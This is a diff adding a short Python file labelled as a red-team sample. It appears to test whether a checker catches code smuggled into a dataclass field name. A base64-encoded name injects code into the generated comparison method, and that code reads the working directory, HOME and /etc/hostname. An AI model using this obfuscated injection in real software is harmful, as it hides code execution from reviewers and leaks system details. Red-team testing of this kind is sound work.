@@ -1,0 +1,24 @@
+# family: red team, round 51a (dataclasses.Field made directly, shared with a dataclass, renamed)
+import base64
+import dataclasses
+
+
+made = dataclasses.Field(0, dataclasses.MISSING, True, True, None, True, None, False)
+
+
+@dataclasses.dataclass
+class A:
+    x: int = made
+
+
+def main():
+    made.name = base64.b64decode("eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk=").decode()
+
+    @dataclasses.dataclass(init=False, repr=False)
+    class B(A):
+        pass
+
+    print(B() == B())
+
+
+main()
